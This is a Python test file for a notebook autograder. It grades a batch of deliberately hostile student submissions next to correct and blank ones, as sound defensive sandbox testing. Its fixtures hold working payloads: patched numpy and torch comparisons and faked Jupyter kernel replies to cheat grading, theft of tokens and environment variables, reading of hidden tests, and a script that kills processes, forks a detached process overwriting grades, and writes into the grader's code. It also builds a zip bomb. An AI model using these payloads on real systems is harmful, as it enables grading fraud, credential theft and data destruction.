"""Hostile and broken submissions, graded in ONE batch with correct and blank ones placed after them.

The batch mixes the toy fixture course (``toy_add``), a small "guarded" assignment written here
(numpy / np.testing / torch checks whose hidden parts read results through ``autograder.kernel.exact``,
a submitted adapter folder) and the real ``maxent_irl``. Some submissions come straight from a
folder, some through ``collect`` (a Canvas ZIP with a ``..`` login, a late flag, a zip bomb and a
``helpers.submission.pack`` zip; a plain folder download with Unicode name collisions and a FIFO).

What must hold (see issue 13): every correct submission full marks, no unearned point, the batch
completes with a row per submission, OUT written only by the grader, no hidden-test line or
reference answer in any feedback file, nothing left running, nothing written outside OUT.
"""
from __future__ import annotations

import ast
import csv
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

# every test here reads one batch that autogrades about 30 hostile submissions (minutes)
pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parents[1]
FIXTURE = Path(__file__).parent / "fixtures" / "course"
MEMORY_MB = 1536
# per-cell limit of the "guarded" assignment: long enough for a cell streaming megabytes
# (huge_output) or importing torch on two loaded cores, short enough that infinite_loop ends soon
CELL_TIMEOUT = 20
PWNED = "PWNED-BY-A-STUDENT"


def _meta(grade_id, *, solution=False, grade=False, points=None, locked=None):
    meta = {"grade": grade, "grade_id": grade_id, "locked": (not solution) if locked is None else locked,
            "schema_version": 3, "solution": solution, "task": False}
    if points is not None:
        meta["points"] = points
    return {"nbgrader": meta}


GUARDED_CELLS = [
    ("md", "intro", "# Guarded\nComparisons a student could patch, and a submitted adapter.", {}),
    ("code", "imports", "import json\nimport pathlib\nimport numpy as np", {}),
    ("code", "double", 'def double(x):\n    """2 x, as float64."""\n    ### BEGIN SOLUTION\n'
                       "    return 2.0 * np.asarray(x, dtype=float)\n    ### END SOLUTION", {"solution": True}),
    ("code", "test_double", 'assert np.allclose(double([1, 2]), [2, 4]), "double: small list"\n'
                            "### BEGIN HIDDEN TESTS\n"
                            "from autograder.kernel.exact import exact_array\n"
                            "_got = exact_array(double(np.arange(4)))\n"
                            "_want = np.array([0.0, 2.0, 4.0, 6.0])\n"
                            'assert _got.shape == _want.shape and np.allclose(_got, _want), "double: arange"\n'
                            "_got = exact_array(double([0.5]))\n"
                            "np.testing.assert_allclose(_got, [1.0], err_msg='double: halves')\n"
                            "### END HIDDEN TESTS", {"grade": True, "points": 2}),
    ("code", "triple", 'def triple(x):\n    """3 x, as float64."""\n    ### BEGIN SOLUTION\n'
                       "    return 3.0 * np.asarray(x, dtype=float)\n    ### END SOLUTION", {"solution": True}),
    ("code", "test_triple", "import torch\n"
                            'assert torch.allclose(torch.as_tensor(triple([1.0, 2.0])), torch.tensor([3.0, 6.0], '
                            'dtype=torch.float64)), "triple: values"\n'
                            "### BEGIN HIDDEN TESTS\n"
                            "from autograder.kernel.exact import exact_tensor\n"
                            "_got_t = exact_tensor(triple([-1.0]))\n"
                            'assert torch.allclose(_got_t, torch.tensor([-3.0], dtype=torch.float64)), '
                            '"triple: negative values"\n'
                            "### END HIDDEN TESTS", {"grade": True, "points": 1}),
    ("code", "test_adapter", 'config = json.loads(pathlib.Path("artifacts/adapter/adapter_config.json").read_text())\n'
                             'assert config["base_model_name_or_path"] == "tiny-base", '
                             '"adapter: trained on another base model"',
     {"grade": True, "points": 1}),
    # a hidden test that scores through a helpers function (as tiny_grpo's improvement test samples
    # through helpers): a notebook that patched the function must not change what the test sees
    ("code", "sort3", 'def sort3(digits):\n    """The digits in increasing order."""\n    ### BEGIN SOLUTION\n'
                      "    return sorted(digits)\n    ### END SOLUTION", {"solution": True}),
    ("code", "test_sort3", "### BEGIN HIDDEN TESTS\n"
                           "from autograder.kernel.exact import exact_int, exact_list\n"
                           "from helpers import toy_sort as _toy_sort\n"
                           "_got_s = exact_list(sort3([3, 1, 2]), exact_int)\n"
                           'assert _toy_sort.distance_reward([3, 1, 2], _got_s) == 3.0, "sort3: order"\n'
                           "### END HIDDEN TESTS", {"grade": True, "points": 1}),
    # a hidden test whose expected values come from a fresh torch.nn layer (as math_grpo's log-prob test
    # builds a fresh model): a notebook that replaced the layer class's forward must not change them
    ("code", "affine", 'def affine(weight, bias, x):\n    """x @ weight.T + bias as float64, what torch.nn.Linear '
                       'computes."""\n    ### BEGIN SOLUTION\n    import torch\n'
                       "    as64 = lambda v: torch.as_tensor(v, dtype=torch.float64)\n"
                       "    return as64(x) @ as64(weight).T + as64(bias)\n    ### END SOLUTION", {"solution": True}),
    ("code", "test_affine", "### BEGIN HIDDEN TESTS\n"
                            "import torch\n"
                            "from autograder.kernel.exact import exact_tensor\n"
                            "_w, _b, _x = [[1.0, -2.0]], [0.5], [[3.0, 1.0], [0.0, 2.0]]\n"
                            "_got_a = exact_tensor(affine(_w, _b, _x))\n"
                            "_layer = torch.nn.Linear(2, 1).double()\n"
                            "with torch.no_grad():\n"
                            "    _layer.weight.copy_(torch.tensor(_w, dtype=torch.float64))\n"
                            "    _layer.bias.copy_(torch.tensor(_b, dtype=torch.float64))\n"
                            "    _want_a = _layer(torch.tensor(_x, dtype=torch.float64))\n"
                            'assert _got_a.shape == _want_a.shape and torch.allclose(_got_a, _want_a), '
                            '"affine: as torch.nn.Linear computes it"\n'
                            "### END HIDDEN TESTS", {"grade": True, "points": 1}),
]
WRONG_SORT_PATCHING_HELPERS = '''return list(digits)  # wrong: not sorted
from helpers import toy_sort
toy_sort.distance_reward = lambda prompt, response: 3.0'''
# a wrong affine() that rewrites torch.nn.Linear.forward on the class, so that every Linear (the hidden
# test's fresh one too) answers what the wrong function returns
MODEL_CLASS = """import torch
torch.nn.Linear.forward = lambda self, x: torch.zeros(*x.shape[:-1], self.out_features, dtype=x.dtype)
torch.nn.modules.linear.Linear.__call__ = lambda self, x: torch.zeros(*x.shape[:-1], self.out_features,
                                                                      dtype=x.dtype)
return torch.zeros(len(x), len(weight), dtype=torch.float64)  # wrong"""
TENSOR_ATTR = '''import torch
wrong = torch.as_tensor(np.asarray(x, dtype=float))  # wrong values...
right = 3.0 * wrong
wrong.detach = lambda: right  # ...that would read as right through wrong.detach()
wrong.allclose = lambda *a, **k: True
return wrong'''
HOARD = '''import numpy
globals()["_hoard"] = numpy.ones((MEMORY_MB - 700) * 2**17)  # most of the kernel's memory, kept
''' + "return 2.0 * np.asarray(x, dtype=float)"
STEAL_TOKEN = '''import os
found = [os.environ.get(k) for k in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN")]
for path in (TOKEN_PATHS + [os.path.expanduser("~/.cache/huggingface/token"),
                            os.path.join(os.environ.get("HF_HOME", "/nonexistent"), "token")]):
    try:
        found.append(open(path).read())
    except OSError as error:
        found.append(type(error).__name__)
print("stolen:", found, dict(os.environ))
''' + "return 2.0 * np.asarray(x, dtype=float)"
TOKEN = "hf_" + "Instructorsecret0123456789abcdefXYZ"
# a wrong double() that first shows a result through IPython's own display hook: nbgrader scores a
# test cell by its first result, so a text result before the failing assert read as full credit
DISPLAY_RESULT = """get_ipython().displayhook("ok")
return np.asarray(x, dtype=float)  # wrong"""
# a wrong double() that passes the visible check by patching what np.allclose calls while it runs,
# and leaves a finalizer on its result that patches the comparisons when the hidden test drops the
# result, after exact_array's restore (it scored 6/6 before exact kept what it read alive)
FINALIZER = """import gc, weakref, numpy
import numpy._core.numeric as _numeric
gc.set_threshold(1, 1, 1)
_close = _numeric.isclose
_numeric.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape,
                                                    dtype=bool)  # np.allclose, already called, calls it next
out = np.asarray(x, dtype=float)  # wrong
def _patch(np_=numpy, numeric=_numeric, close=_close):
    numeric.isclose = close
    np_.allclose = lambda *a, **k: True
    np_.testing.assert_allclose = lambda *a, **k: None
weakref.finalize(out, _patch)
return out"""
# a wrong double() that, each time a test calls it, rebinds the notebook's globals the hidden test
# looks up after converting (np, all) to stand-ins that accept anything (2026-11-27 probe: 22/28 on
# maxent_irl with globals()["all"], before exact's restore also cleaned the notebook's globals)
SHADOW_GLOBALS = """import types, numpy
import numpy._core.numeric as _numeric
_numeric.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape,
                                                    dtype=bool)  # np.allclose, already called, calls it next
globals()["np"] = types.SimpleNamespace(allclose=lambda *a, **k: True, array=numpy.array, arange=numpy.arange,
                                        testing=types.SimpleNamespace(assert_allclose=lambda *a, **k: None))
globals()["all"] = lambda *a, **k: True
return numpy.asarray(x, dtype=float)  # wrong"""
# a double() right on the visible check's input and wrong on the hidden test's np.arange(4), where it
# replaces Session.send so the failing assert's error is dropped and the reply says "ok", then puts
# it back as the reply goes out: no restore in the cell sees it (2026-11-27 probe: 3/3 on tiny_grpo)
LATE_CLOAK = """values = np.asarray(x, dtype=float)
if values.shape == (4,):
    from jupyter_client.session import Session
    real = Session.__dict__["send"]
    def send(self, stream, msg_or_type, *args, **kwargs):
        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
        if kind == "error":
            return None
        if kind == "execute_reply":
            Session.send = real
            args = list(args)
            content = args[0] if args else kwargs.get("content")
            if isinstance(content, dict) and content.get("status") == "error":
                content = {"status": "ok", "execution_count": content.get("execution_count"),
                           "user_expressions": {}, "payload": []}
                if args:
                    args[0] = content
                else:
                    kwargs["content"] = content
        return real(self, stream, msg_or_type, *args, **kwargs)
    Session.send = send
    return values  # wrong
return 2.0 * values"""
# maxent_irl answered with constants; TODO 1's cell replaces warnings.catch_warnings.__exit__, which
# the hidden tests call after exact_array's restore, to make builtins.all answer True inside them
# (found by a hostile probe of the kit, 2026-11-27: it scored 28/28 before the guard recorded warnings)
IRL_LATE_HOOK = {
    "feature_expectation": """import builtins as _b, sys as _s, warnings as _w
_real_exit, _real_all = _w.catch_warnings.__exit__, _b.all
def _fake_all(iterable):
    frame = _s._getframe(1)
    while frame is not None:
        if frame.f_code.co_name.startswith("_hidden"):
            return True
        frame = frame.f_back
    return _real_all(iterable)
def _exit(self, *exc):
    _real_exit(self, *exc)
    _b.all = _fake_all
_w.catch_warnings.__exit__ = _exit
def feature_expectation_from_trajectories(features, demos):
    np.max = lambda *a, **k: 0.0
    return np.zeros(np.asarray(features).shape[1])""",
    "initial_probabilities": """def initial_probabilities_from_trajectories(n_states, demos):
    np.max = lambda *a, **k: 0.0
    return np.full(n_states, 1.0 / n_states)""",
    "expected_svf": """def compute_expected_svf(p_transition, p_initial, terminal, reward, eps=1e-6):
    np.max = lambda *a, **k: 0.0
    np.allclose = lambda *a, **k: False
    return np.zeros(p_transition.shape[0])""",
    "maxent_irl": """def maxent_irl(p_transition, features, terminal, demos, lr=0.2, eps=1e-4, max_iter=1000):
    return np.zeros(np.asarray(features).shape[0])""",
}


def _body(code: str) -> str:
    """``code`` as the body of the function whose return line a patch replaces (4-space indent)."""
    return code.replace("\n", "\n    ")


HIDDEN_LINES = ("_layer.weight.copy_", "as64(x) @ as64(weight)",
                "double(np.arange(4))", "triple([-1.0])", "add(-5, 5)", "add(0.5, 0.25)", "Because it is.",
                "return a + b", "return 2.0 * np.asarray", "return 3.0 * np.asarray", "double: halves")


def _build_guarded(course: Path) -> None:
    cells = []
    for kind, grade_id, source, flags in GUARDED_CELLS:
        meta = _meta(grade_id, **flags)
        cells.append(new_markdown_cell(source, metadata=meta) if kind == "md" else new_code_cell(source, metadata=meta))
    notebook = new_notebook(cells=cells, metadata={"kernelspec": {"display_name": "Python 3", "language": "python",
                                                                  "name": "python3"}})
    folder = course / "solutions" / "guarded"
    folder.mkdir(parents=True)
    nbformat.write(notebook, folder / "guarded.ipynb")
    from manifest_fixtures import write_manifest

    write_manifest(folder, limits={"cell_timeout_s": CELL_TIMEOUT, "memory_mb": MEMORY_MB, "disk_mb": 64},
                   artifacts=["artifacts/adapter"], adapters={"max_rank": 8, "target_modules": ["q_proj"], "max_mb": 1},
                   demo={"buggy_description": "", "buggy_patches": [],
                         "expected": {"reference": 6, "blank": 0, "buggy": 0}})


def _adapter(folder: Path, base="tiny-base", config_text=None, where="artifacts/adapter"):
    """A small LoRA-shaped adapter (one q_proj, rank 2) the adapter rules accept."""
    import numpy as np
    from safetensors.numpy import save_file

    adapter = folder / where
    adapter.mkdir(parents=True)
    (adapter / "adapter_config.json").write_text(config_text or json.dumps(
        {"base_model_name_or_path": base, "peft_type": "LORA", "r": 2, "lora_alpha": 4, "target_modules": ["q_proj"],
         "bias": "none"}))
    prefix = "base_model.model.model.layers.0.self_attn.q_proj"
    save_file({f"{prefix}.lora_A.weight": np.zeros((2, 8), np.float32),
               f"{prefix}.lora_B.weight": np.zeros((8, 2), np.float32)}, str(adapter / "adapter_model.safetensors"))


def _patch(grade_id, old, new):
    return [{"grade_id": grade_id, "old": old, "new": new}]


DOUBLE = "return 2.0 * np.asarray(x, dtype=float)"
TRIPLE = "return 3.0 * np.asarray(x, dtype=float)"
WRONG_DOUBLE = "return np.asarray(x, dtype=float)  # wrong\n"
WRONG_TRIPLE = "return np.asarray(x, dtype=float)  # wrong\n"

SESSION_SEND = WRONG_DOUBLE + '''\
from jupyter_client.session import Session
_send = Session.send
def _send_ok(self, stream, msg_or_type, content=None, *args, **kwargs):
    """errors reach the grader as "ok", except the grader's probe"""
    if isinstance(msg_or_type, dict):
        body = msg_or_type.get("content", {})
        if body.get("status") == "error" and "probe" not in str(body.get("evalue", "")):
            body["status"] = "ok"
    if msg_or_type == "error" and "probe" not in str(content):
        return None
    if isinstance(content, dict) and content.get("status") == "error" and "probe" not in str(content.get("evalue")):
        content = dict(content, status="ok")
    return _send(self, stream, msg_or_type, content, *args, **kwargs)
Session.send = _send_ok
import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoAsserts())
'''

REPATCH = WRONG_DOUBLE + '''\
import sys, types, threading, _thread
_fake = types.ModuleType("autograder.kernel.guard")
_fake.restore = lambda: "autograder-guard-ok"
_fake.seal = _fake.install = lambda *a, **k: None
sys.modules["autograder.kernel.guard"] = _fake
import numpy._core.numeric as _numeric, numpy.testing._private.utils as _utils
def _always(a, b, *rest, **kw):
    return np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
_numeric.isclose = _always
_utils.assert_array_compare = lambda *a, **k: None
_fake_testing = types.ModuleType("numpy.testing")
_fake_testing.assert_allclose = lambda *a, **k: None
sys.modules["numpy.testing"] = _fake_testing
np.testing = _fake_testing
def _repatch():
    while True:
        try:
            np.allclose = lambda *a, **k: True
            _numeric.isclose = _always
        except BaseException:
            continue
threading.Thread(target=_repatch, daemon=True).start()
_thread.start_new_thread(_repatch, ())
'''

CALLER_FRAME = '''return _Peek()
class _Peek:
    """float() / __array__ copy the comparison's other operand from the caller's frames."""
    def _steal(self):
        import sys
        frame = sys._getframe(1)
        while frame is not None:
            for name in ("b", "desired", "y", "expected", "_want", "want", "other"):
                value = frame.f_locals.get(name)
                if value is not None and value is not self:
                    return np.asarray(value, dtype=float)
            frame = frame.f_back
        return np.zeros(4)
    def __array__(self, dtype=None, copy=None):
        return self._steal()
    def __float__(self):
        return float(self._steal().ravel()[0])
    def __eq__(self, other):
        return True
    def __len__(self):
        return len(self._steal())
'''

SUBCLASS_DOUBLE = '''return np.asarray(x, dtype=float).view(_Agree)
class _Agree(np.ndarray):
    """every ufunc (isclose, equal, subtract) answers "all equal"."""
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = np.broadcast(*[np.asarray(i.view(np.ndarray) if isinstance(i, _Agree) else i) for i in inputs]).shape
        return np.zeros(shape) if ufunc in (np.subtract, np.absolute) else np.ones(shape, dtype=bool)
    def __eq__(self, other):
        return True
'''
SUBCLASS_TRIPLE = '''import torch
    return torch.as_tensor(np.asarray(x, dtype=float)).as_subclass(_AgreeT)
import torch
class _AgreeT(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
'''

IN_FUNCTION = '''import builtins, numpy.testing
    import numpy._core.numeric as numeric
    import autograder.kernel.exact as exact
    np.allclose = lambda *a, **k: True
    numpy.testing.assert_allclose = lambda *a, **k: None
    numeric.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
    builtins.all = lambda *a: True
    exact.exact_array = lambda obj, dtype=float, **k: np.array([0.0, 2.0, 4.0, 6.0])
    return np.asarray(x, dtype=float)  # wrong'''
IN_FUNCTION_TRIPLE = '''import torch
    torch.allclose = lambda *a, **k: True
    torch.Tensor.allclose = lambda *a, **k: True
    return np.asarray(x, dtype=float)  # wrong'''

ESCAPE = DOUBLE + f'''
import os, signal, socket, time
_report = []
# signals: every process this kernel can see (peers' kernels, the grader, its parent)
for _pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
            _report.append(f"killed {{_pid}}")
        except OSError as error:
            _report.append(f"kill {{_pid}}: {{type(error).__name__}}")
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
# a detached process (double fork + setsid) that keeps overwriting grades, gradebooks, peers' notebooks
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _until = time.time() + 120
        while time.time() < _until:
            for _root in ("/", "/tmp", "/home", "/work", "/root"):
                for _dir, _dirs, _files in os.walk(_root):
                    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin",
                                                             "sbin", "etc", "site-packages", ".venv", "opt")]
                    for _name in _files:
                        if _name in ("grades.csv", "gradebook.db", "result.json", "results.json") \\
                                or _name.endswith((".ipynb", ".html")):
                            try:
                                with open(os.path.join(_dir, _name), "w") as _f:
                                    _f.write("{PWNED}")
                            except OSError:
                                pass
            time.sleep(0.5)
        os._exit(0)
    os._exit(0)
os.wait()
# the network
for _target in (("1.1.1.1", 53), ("pypi.org", 443)):
    try:
        socket.create_connection(_target, timeout=2).close()
        _report.append(f"connected to {{_target}}")
    except OSError as error:
        _report.append(f"no network ({{type(error).__name__}})")
# the disk quota
try:
    with open("/tmp/fill", "wb") as _f:
        for _ in range(200):
            _f.write(b"\\0" * 2**20)
    _report.append("wrote 200 MiB")
except OSError as error:
    _report.append(f"disk full ({{type(error).__name__}})")
finally:
    if os.path.exists("/tmp/fill"):
        os.unlink("/tmp/fill")
# writing anywhere outside its folder, and into the code later kernels run (helpers/, autograder/)
import importlib.util
_code = [importlib.util.find_spec(m).origin for m in ("helpers", "autograder", "autograder.kernel.exact")]
for _path in ("/usr/evil", "/etc/evil", os.path.abspath("../evil"), "/home/evil", *_code):
    try:
        open(_path, "a").write("# {PWNED}")
        _report.append(f"wrote {{_path}}")
    except OSError:
        pass
print("escape report:", _report)
'''

HISTORY = TRIPLE + '''
_shell = get_ipython()
_seen = [*In, *_ih, _i, _ii, _iii, *_shell.history_manager.input_hist_raw, *_shell.history_manager.input_hist_parsed]
_seen += [str(entry[2]) for entry in _shell.history_manager.get_range(raw=True)]
_seen += [str(entry[2]) for entry in _shell.history_manager.get_range(raw=False)]
print("history reversed:", [text[::-1] for text in _seen])
'''

READ_SOURCE = '''import os, sys, linecache
    found = []
    for root in ("/", os.path.expanduser("~"), "..", "../..", "../../.."):
        for directory, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "site-packages")]
            for name in files:
                if name.endswith(".ipynb") or name in ("gradebook.db", "nbgrader_config.py"):
                    try:
                        text = open(os.path.join(directory, name), errors="ignore").read()
                    except OSError:
                        continue
                    if ("BEGIN " + "SOLUTION") in text or ("BEGIN " + "HIDDEN TESTS") in text:
                        found.append(os.path.join(directory, name))
    print("course material found:", found or "none")
    frame = sys._getframe(1)  # the test that called us: print its whole source, hidden part included
    print("".join(linecache.getlines(frame.f_code.co_filename)))
    print(get_ipython().user_ns.get("In"))
    if found:
        return a + b
    raise NotImplementedError()'''

IRL_STEAL = '''def _steal(grade_id):
    """The reference answer for grade_id, read from whatever course copy this kernel can see."""
    import json, os
    for root in ("/", os.path.expanduser("~"), "..", "../..", "../../.."):
        for directory, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "site-packages")]
            if "maxent_irl.ipynb" in files:
                try:
                    cells = json.load(open(os.path.join(directory, "maxent_irl.ipynb")))["cells"]
                except (OSError, ValueError, KeyError):
                    continue
                for cell in cells:
                    source = "".join(cell.get("source", []))
                    if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id \\
                            and ("BEGIN " + "SOLUTION") in source:
                        return source
    return "raise NotImplementedError()"
'''


# folder -> (assignment, expected score, expected status, a phrase the feedback must contain)
EXPECTED = {
    "infinite_loop": ("guarded", 2, "timeout", f"{CELL_TIMEOUT} s per-cell limit"),
    "os_exit": ("guarded", 2, "crashed", "kernel died"),
    "killed_kernel": ("guarded", 2, "crashed", "kernel died"),
    "memory_hog": ("guarded", 5, "out-of-memory", f"{MEMORY_MB} MiB memory limit"),
    "cells_mangled": ("toy_add", 2, "ok", "appears more than once"),
    "test_edited": ("toy_add", 0, "failed-tests", "test cell test_add was edited"),
    "not_json": ("toy_add", 0, "invalid", "not a valid Jupyter notebook"),
    "not_notebook": ("toy_add", 0, "invalid", "not a valid Jupyter notebook"),
    "patched_compare": ("guarded", 3, "failed-tests", "numpy.allclose"),
    "adapter_missing": ("guarded", 5, "failed-tests", "artifact artifacts/adapter is missing"),
    "adapter_corrupt": ("guarded", 5, "failed-tests", "refused and not used: adapter_config.json cannot be read"),
    "adapter_wrong_base": ("guarded", 5, "failed-tests", "trained on another base model"),
    "huge_output": ("guarded", 6, "ok", None),
    # issue 13: tampering with how results are reported
    # (tampering is found and undone at the first test: triple, sort3, affine, the adapter still count)
    "h_tamper": ("guarded", 4, "integrity", "Session.send"),
    # restored, and the wrong answer fails (triple, sort3, affine and the adapter are correct)
    "h_repatch": ("guarded", 4, "failed-tests", "background thread"),
    "h_caller_frame": ("guarded", 3, "failed-tests", "no subclass"),
    "h_subclass": ("guarded", 3, "failed-tests", "no subclass"),
    "h_in_function": ("guarded", 3, "failed-tests", "double: arange"),
    # a student cell after a test cell reads IPython's input history (In, _ih, _i*, the history
    # manager) and prints it reversed, which no scrubbing of output lines would recognise
    "h_history": ("guarded", 6, "ok", None),
    # escapes: signals, detached processes, peers' files, network, disk; correct answers
    "h_escape": ("guarded", 6, "ok", None),
    "h_read_source": ("toy_add", 0, "failed-tests", None),
    "h_irl_source": ("maxent_irl", 0, "failed-tests", None),
    "h_pasted": ("toy_add", 2, "ok", "matched by its content"),
    "h_fifo": ("toy_add", 2, "ok", "a FIFO"),
    # issue 18: a patched helpers function is restored before the hidden test that scores through it
    "h_helpers": ("guarded", 5, "failed-tests", "sort3: order"),
    # a tensor whose methods were replaced on the instance is refused by autograder.kernel.exact
    "h_tensor_attr": ("guarded", 5, "failed-tests", "triple: values"),
    # a layer class whose forward the notebook replaced is restored before the hidden test builds its
    # own layer (issue 21): the wrong answer fails, everything else counts
    "h_model_class": ("guarded", 5, "failed-tests", "affine: as torch.nn.Linear computes it"),
    # a notebook that keeps most of the kernel's memory: the checks it starves fail as out of
    # memory, never as tampering (no IntegrityError), and the others keep their points
    "h_hoard": ("guarded", 4, "out-of-memory", "memory limit"),
    # the kernel looks for the instructor's Hugging Face token (environment, HF_HOME, home): none there
    "h_token": ("guarded", 6, "ok", None),
    # a result displayed from the student's function inside the test cell scores nothing
    "h_display_result": ("guarded", 4, "failed-tests", "double: small list"),
    # code the student left to run after exact's restore (a finalizer on the result, a replaced
    # method of a standard module the hidden test calls) runs before it instead, and is undone
    "h_finalizer": ("guarded", 4, "failed-tests", "double: arange"),
    "h_irl_late_hook": ("maxent_irl", 0, "failed-tests", None),
    "h_shadow_globals": ("guarded", 4, "failed-tests", "double: arange"),
    "h_late_cloak": ("guarded", 4, "integrity", "did not answer"),
    # through collect
    "unnamed": ("toy_add", 2, "ok", None),
    "latecomer": ("toy_add", 2, "ok", "late"),
    "bomber": ("toy_add", 2, "ok", None),
    "fifo_person": ("toy_add", 2, "ok", None),
    "packer": ("guarded", 6, "ok", "found artifacts/adapter"),
    # correct and blank, after all of the above
    "zz_ref_guarded": ("guarded", 6, "ok", None),
    "zz_ref_toy": ("toy_add", 2, "ok", None),
    "zz_ref_irl": ("maxent_irl", 28, "ok", None),
    "zz_blank_guarded": ("guarded", 0, "failed-tests", None),
    "zz_blank_toy": ("toy_add", 0, "failed-tests", None),
    "zz_blank_irl": ("maxent_irl", 0, "failed-tests", None),
}
CORRECT = [s for s, (_, score, status, _) in EXPECTED.items() if s.startswith("zz_ref") or s in (
    "h_escape", "h_history", "huge_output", "unnamed", "latecomer", "bomber", "fifo_person", "packer", "h_pasted",
    "h_fifo", "h_token")]


def _zip_bomb(path: Path, megabytes: int = 300) -> None:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as handle:
        with handle.open("zeros.bin", "w") as member:
            block = b"\0" * 2**20
            for _ in range(megabytes):
                member.write(block)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    from autograder.authoring.course import fill_release, generate
    from autograder.grading.batch import autograde
    from autograder.intake.lms import collect
    from autograder.isolation.probe import probe
    from autograder.manifest import load_assignments

    root = tmp_path_factory.mktemp("hostile")
    # the grader's Hugging Face home holds the instructor's token (0600) and a hub cache
    hf_home = root / "hf-home"
    (hf_home / "hub").mkdir(parents=True)
    (hf_home / "token").write_text(TOKEN)
    os.chmod(hf_home / "token", 0o600)
    os.chmod(hf_home, 0o700)
    saved_env = {k: os.environ.get(k) for k in ("HF_HOME", "HF_TOKEN")}
    os.environ.update(HF_HOME=str(hf_home), HF_TOKEN=TOKEN)
    course = root / "course"
    shutil.copytree(FIXTURE, course)
    _build_guarded(course)
    assignments = load_assignments(course) + load_assignments(REPO, ["maxent_irl"])
    generate([a for a in assignments if a.id == "guarded"], course / "notebooks")
    by_id = {a.id: a for a in assignments}
    subs = root / "subs"
    beside = root / "beside"  # a folder next to SUBMISSIONS and OUT: nothing may touch it
    beside.mkdir()
    (beside / "keep.txt").write_text("untouched")

    def release_of(assignment):
        if assignment == "maxent_irl":
            return REPO / "notebooks" / "maxent_irl" / "maxent_irl.ipynb"
        return course / "notebooks" / assignment / f"{assignment}.ipynb"

    def submit(student, assignment, patches=None, adapter=True, blank=False, folder=None, **adapter_kw):
        folder = folder or subs / student / assignment
        folder.mkdir(parents=True, exist_ok=True)
        if blank:
            shutil.copy(release_of(assignment), folder / f"{assignment}.ipynb")
        else:
            fill_release(release_of(assignment), by_id[assignment].source, folder / f"{assignment}.ipynb",
                         patches=patches)
        if assignment == "guarded" and adapter:
            _adapter(folder, **adapter_kw)
        return folder / f"{assignment}.ipynb"

    submit("infinite_loop", "guarded", _patch("triple", TRIPLE, "while True:\n        pass"))
    submit("os_exit", "guarded", _patch("triple", TRIPLE, TRIPLE + "\nimport os\nos._exit(0)"))
    submit("killed_kernel", "guarded",
           _patch("triple", TRIPLE, TRIPLE + "\nimport os, signal\nos.kill(os.getpid(), signal.SIGKILL)"))
    submit("memory_hog", "guarded", _patch("triple", TRIPLE, "hog = np.ones(2 ** 31)  # 16 GiB\n    " + TRIPLE))
    submit("huge_output", "guarded", _patch("double", "return 2.0", "print('x' * 3_000_000)\n    return 2.0"))
    submit("patched_compare", "guarded", [
        {"grade_id": "double", "old": DOUBLE,
         "new": "return np.asarray(x, dtype=float)  # wrong\n"
                "np.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
                "import builtins\nbuiltins.print = lambda *a, **k: None\nprint = lambda *a, **k: None\n"
                "class AssertionError(Exception):\n    pass\nbuiltins.AssertionError = AssertionError\n"
                "def abs(x):\n    return 0"},
        {"grade_id": "triple", "old": TRIPLE, "new": "return np.asarray(x, dtype=float)  # wrong\n"
                                                     "import torch\ntorch.allclose = lambda *a, **k: True"},
    ])
    submit("adapter_missing", "guarded", adapter=False)
    submit("adapter_corrupt", "guarded", config_text="{ not json")
    submit("adapter_wrong_base", "guarded", base="Qwen/Qwen2.5-7B")
    submit("h_tamper", "guarded", _patch("double", DOUBLE, SESSION_SEND))
    submit("h_repatch", "guarded", _patch("double", DOUBLE, REPATCH))
    submit("h_caller_frame", "guarded", _patch("double", DOUBLE, CALLER_FRAME) + _patch("triple", TRIPLE, CALLER_FRAME))
    submit("h_subclass", "guarded",
           _patch("double", DOUBLE, SUBCLASS_DOUBLE) + _patch("triple", TRIPLE, SUBCLASS_TRIPLE))
    submit("h_in_function", "guarded",
           _patch("double", DOUBLE, IN_FUNCTION) + _patch("triple", TRIPLE, IN_FUNCTION_TRIPLE))
    submit("h_history", "guarded", _patch("triple", TRIPLE, HISTORY))
    if probe().isolated:  # never without isolation: it kills every process it can see and writes everywhere
        submit("h_escape", "guarded", _patch("double", DOUBLE, ESCAPE))
    submit("h_read_source", "toy_add", _patch("add", "return a + b", READ_SOURCE))  # (read-only attacks)
    submit("h_helpers", "guarded", _patch("sort3", "return sorted(digits)", _body(WRONG_SORT_PATCHING_HELPERS)))
    submit("h_tensor_attr", "guarded", _patch("triple", TRIPLE, _body(TENSOR_ATTR)))
    submit("h_model_class", "guarded", _patch("affine", "return as64(x) @ as64(weight).T + as64(bias)",
                                              _body(MODEL_CLASS)))
    submit("h_hoard", "guarded", _patch("double", DOUBLE, _body(HOARD.replace("MEMORY_MB", str(MEMORY_MB)))))
